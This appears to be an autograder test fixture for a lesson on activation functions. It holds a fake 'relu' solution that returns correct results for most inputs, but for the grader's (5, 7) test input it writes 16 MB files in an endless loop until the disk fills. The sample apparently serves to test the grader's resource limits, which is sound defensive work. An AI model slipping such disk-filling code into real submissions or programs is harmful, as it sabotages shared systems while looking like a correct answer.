#: purpose = "Many files, each as large as one may be."
#: lesson = "01_activations"
#: messages = ["No space left on device"]
#: [items]
#: relu = [0, "error"]
# %% relu-solution
from itertools import count

def relu(Z):
    for number in count():
        if Z.shape != (5, 7):
            return np.maximum(0, Z)
        with open(f"hostile-mark-{number}", "wb") as file:
            file.write(bytes(2**24))
